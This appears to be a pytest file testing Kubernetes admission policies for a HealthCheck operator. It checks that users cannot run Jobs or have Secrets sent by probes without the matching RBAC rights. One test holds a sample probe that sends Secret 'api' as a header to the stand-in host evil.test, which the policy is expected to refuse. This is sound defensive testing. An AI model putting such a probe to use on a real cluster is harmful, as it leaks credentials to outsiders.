"""Who may write which HealthChecks: the admission policies of dist/, on a real API server."""

import json
from collections.abc import Iterator
from typing import Any

import pytest
import yaml

from cluster.conftest import Kubectl
from cluster.installation import manifests
from cluster.manifests import Manifest, health_check
from cluster.test_crds import definition
from cluster.waiting import until
from homeostat.api import health_check as healthcheck

GROUP = "rbac.authorization.k8s.io"
WRITES_CHECKS = {"apiGroups": ["homeostat.dev"], "resources": ["healthchecks"], "verbs": ["*"]}
RUNS_JOBS = {"apiGroups": ["batch"], "resources": ["jobs"], "verbs": ["create"]}
GETS_SECRETS = {"apiGroups": [""], "resources": ["secrets"], "verbs": ["get"]}
POLICIES = ("ValidatingAdmissionPolicy", "ValidatingAdmissionPolicyBinding")


class Writer:
    """A user who may do what `allow` was told last, in one namespace."""

    def __init__(self, kubectl: Kubectl, namespace: str) -> None:
        self._kubectl = kubectl
        self._namespace = namespace
        self._name = f"writer-of-{namespace}"

    def allow(self, *rules: dict[str, Any]) -> None:
        role = {"apiVersion": f"{GROUP}/v1", "kind": "Role", "metadata": {"name": "writer"}, "rules": rules}
        self._as_administrator(role)
        subject = {"kind": "User", "name": self._name, "apiGroup": GROUP}
        reference = {"kind": "Role", "name": "writer", "apiGroup": GROUP}
        binding = {"apiVersion": f"{GROUP}/v1", "kind": "RoleBinding", "metadata": {"name": "writer"}}
        self._as_administrator(binding | {"subjects": [subject], "roleRef": reference})
        last = rules[-1]
        resource, _, subresource = last["resources"][0].partition("/")
        what = "/".join((resource, *last.get("resourceNames", [])[-1:]))
        asked = (f"--as={self._name}", "-n", self._namespace, "auth", "can-i", last["verbs"][0], what)
        asked += (f"--subresource={subresource}",)
        until(lambda: self._kubectl(*asked, check=False).stdout == "yes\n", "the right is in force")

    def write(self, manifest: Manifest, *flags: str) -> str:
        """Apply it; give the API server's words if it is refused, "" if not."""
        return self._apply(manifest, f"--as={self._name}", *flags)

    def have_written(self, manifest: Manifest) -> None:
        """Have an administrator apply it."""
        self._as_administrator(manifest)

    def _as_administrator(self, manifest: Manifest) -> None:
        assert self._apply(manifest) == ""

    def _apply(self, manifest: Manifest, *flags: str) -> str:
        command = (*flags, "-n", self._namespace, "apply", "--server-side", "--force-conflicts", "-f", "-")
        done = self._kubectl(*command, stdin=json.dumps(manifest), check=False)
        return done.stderr if done.returncode else ""


@pytest.fixture(scope="module")
def policies(kubectl: Kubectl, crds: None) -> None:  # noqa: ARG001 - they are about what the CRDs define
    """Install what dist/ says about who may write what."""
    documents = [one for one in manifests() if one["kind"] in POLICIES]
    kubectl("apply", "--server-side", "--force-conflicts", "-f", "-", stdin=yaml.safe_dump_all(documents))


@pytest.fixture
def writer(policies: None, kubectl: Kubectl, namespace: str) -> Writer:  # noqa: ARG001 - needs them in force
    """Somebody who may write HealthChecks, and nothing else."""
    made = Writer(kubectl, namespace)
    made.allow(WRITES_CHECKS)
    until(lambda: made.write(job_check("-h"), "--dry-run=server"), "the policy for Jobs is in force")
    until(lambda: made.write(secret_check(), "--dry-run=server"), "the policy for Secrets is in force")
    return made


# --- Jobs -----------------------------------------------------------------------------------------------


def job_check(argument: str, name: str = "job") -> Manifest:
    container = {"name": "ask", "image": "homeostat.dev/sample:dev", "args": [argument]}
    job = {"template": {"spec": {"containers": [container]}}}
    return health_check(name, probe={"job": job}, interval="1m", timeout="30s")


@pytest.mark.apiserver
def test_who_may_not_create_jobs_cannot_have_the_operator_create_them(
    writer: Writer, kubectl: Kubectl, namespace: str
) -> None:
    """The right to write HealthChecks is no right to run code; the refusal says what is missing."""
    assert f"you must be allowed to create Jobs in the namespace {namespace}" in writer.write(job_check("-h"))
    assert writer.write(health_check("other", probe={"tcp": {"address": "db:5432"}})) == ""

    writer.have_written(job_check("-h"))
    assert writer.write(job_check("-h") | {"metadata": {"name": "job", "labels": {"edited": "yes"}}}) == ""
    assert "you must be allowed" in writer.write(job_check("-x"))
    assert "you must be allowed" in writer.write(job_check("-h", "another"))
    found = json.loads(kubectl("-n", namespace, "get", "healthcheck", "job", "-o", "json").stdout)
    assert found["spec"]["probe"] == job_check("-h")["spec"]["probe"]


@pytest.mark.apiserver
def test_who_may_create_jobs_may_have_them_run(writer: Writer) -> None:
    writer.allow(WRITES_CHECKS, RUNS_JOBS)

    assert writer.write(job_check("-h")) == ""
    assert writer.write(job_check("-x")) == ""


# --- Secrets --------------------------------------------------------------------------------------------

REFUSED = "whoever writes it is allowed to get, and you are not allowed to get the Secret"
URL = "https://shop.test/"


def key(name: str) -> dict[str, Any]:
    return {"secretRef": {"name": name, "key": "it"}}


def requests_with(name: str) -> Iterator[tuple[str, dict[str, Any]]]:
    """Give an HTTP request for each place in it where a Secret may be named."""
    yield "headersFrom[]", {"url": URL, "headersFrom": [{"name": "X-Key", **key(name)}]}
    yield "bodyFrom", {"url": URL, "method": "POST", "bodyFrom": key(name)}
    for place, tls in settings_with(name):
        yield f"tls.{place}", {"url": URL, "tls": tls}


def settings_with(name: str) -> Iterator[tuple[str, dict[str, Any]]]:
    yield "caRef", {"caRef": key(name)}
    yield "clientCertRef", {"clientCertRef": {"secretRef": {"name": name}}}


def probes_with(name: str) -> dict[str, dict[str, Any]]:
    """Give a probe for each place in it where a Secret may be named."""
    plain = {"name": "first", "http": {"url": URL}}
    probes: dict[str, dict[str, Any]] = {}
    for place, http in requests_with(name):
        probes[f"http.{place}"] = {"http": http}
        probes[f"steps[].http.{place}"] = {"steps": [plain, {"name": "second", "http": http}]}
    for place, tls in settings_with(name):
        probes[f"grpc.tls.{place}"] = {"grpc": {"address": "shop.test:50051", "tls": tls}}
        probes[f"tls.{place}"] = {"tls": {"address": "shop.test:443", **tls}}
    return probes


def secret_check(probe: dict[str, Any] | None = None, **spec: Any) -> Manifest:
    return health_check("keyed", probe=probe or probes_with("api")["http.headersFrom[]"], **spec)


def steps_with(*names: str) -> dict[str, Any]:
    """Give a probe whose steps name these Secrets, one each."""
    return {"steps": [{"name": f"s{i}", "http": {"url": URL, "bodyFrom": key(it)}} for i, it in enumerate(names)]}


def gets_secrets(*names: str) -> dict[str, Any]:
    return GETS_SECRETS | {"resourceNames": list(names)}


def places(schema: dict[str, Any], path: str = "") -> Iterator[str]:
    """Give the paths of all fields of a schema that name a Secret."""
    for name, inner in schema.get("properties", {}).items():
        if name == "secretRef":
            yield path
        yield from places(inner, f"{path}.{name}" if path else name)
    if isinstance(schema.get("items"), dict):
        yield from places(schema["items"], f"{path}[]")


def test_every_place_where_a_secret_can_be_named_is_tried() -> None:
    """H9: a new field that names a Secret must come with its part of the policy."""
    root = definition(healthcheck.KIND)["spec"]["versions"][0]["schema"]["openAPIV3Schema"]
    probe = root["properties"]["spec"]["properties"]["probe"]

    assert sorted(places(probe)) == sorted(probes_with("api"))
    assert sorted(places(root)) == sorted(f"spec.probe.{place}" for place in probes_with("api"))


@pytest.mark.apiserver
def test_nobody_has_a_secret_sent_who_may_not_get_it(writer: Writer) -> None:
    """H9: in whatever place it is named; the right to get another Secret, or to list them all, is not enough."""
    listing = GETS_SECRETS | {"verbs": ["list", "watch"]}
    writer.allow(WRITES_CHECKS, listing, gets_secrets("other"))
    answers = {place: writer.write(secret_check(probe)) for place, probe in probes_with("api").items()}

    assert [place for place, answer in answers.items() if f"{REFUSED} api" not in answer] == []
    assert "homeostat-secret-probes" in answers["http.bodyFrom"]
    assert writer.write(secret_check({"http": {"url": URL}})) == ""


@pytest.mark.apiserver
def test_who_may_get_a_secret_may_name_it(writer: Writer) -> None:
    """H9: the right to get this one is enough."""
    writer.allow(WRITES_CHECKS, gets_secrets("api"))
    answers = {place: writer.write(secret_check(probe)) for place, probe in probes_with("api").items()}

    assert {place: answer for place, answer in answers.items() if answer} == {}


@pytest.mark.apiserver
def test_a_check_may_be_edited_by_anybody_as_long_as_its_probe_stays_what_it_was(writer: Writer) -> None:
    """H9: a known Secret sent elsewhere is as bad as an unknown one; without a Secret nothing is asked."""
    writer.have_written(secret_check())
    assert writer.write(secret_check(interval="7s", suspend=True)) == ""

    elsewhere = {"http": {"url": "https://evil.test/", "headersFrom": [{"name": "X-Key", **key("api")}]}}
    assert REFUSED in writer.write(secret_check(elsewhere))
    assert REFUSED in writer.write(secret_check(probes_with("other")["http.headersFrom[]"]))
    assert writer.write(secret_check({"http": {"url": "https://evil.test/", "headersFrom": []}})) == ""


@pytest.mark.apiserver
def test_each_of_several_secrets_is_asked_for(writer: Writer) -> None:
    """H9: the refusal names the one that is missing; the same one in many places is one."""
    names = [f"s{number}" for number in range(8)]
    writer.allow(WRITES_CHECKS, gets_secrets(*names))
    assert writer.write(secret_check(steps_with(*names))) == ""
    assert writer.write(secret_check(steps_with(*["s7"] * 9, "s0"))) == ""

    for position in range(8):
        probe = steps_with(*names[:position], "hidden", *names[position + 1 :])
        assert writer.write(secret_check(probe)).rstrip().endswith(f"{REFUSED} hidden")


@pytest.mark.apiserver
def test_more_secrets_than_can_be_asked_for_take_the_right_to_all(writer: Writer) -> None:
    """H9: an expression of the API server can ask a few questions only."""
    names = [f"s{number}" for number in range(9)]
    writer.allow(WRITES_CHECKS, gets_secrets(*names))
    assert "takes the right to get all Secrets" in writer.write(secret_check(steps_with(*names)))

    writer.allow(WRITES_CHECKS, GETS_SECRETS)
    assert writer.write(secret_check({"steps": [widest_step(f"s{number}") for number in range(10)]})) == ""


def widest_step(name: str) -> dict[str, Any]:
    """Give a step that names as many Secrets as it can, with names as long as they can be."""
    names = iter(f"{name}-{number}".ljust(253, "x") for number in range(18))
    headers = [{"name": f"X-{number}", **key(next(names))} for number in range(16)]
    tls = {"caRef": key(next(names)), "clientCertRef": {"secretRef": {"name": next(names)}}}
    return {"name": name, "http": {"url": URL, "headersFrom": headers, "bodyFrom": key(name), "tls": tls}}
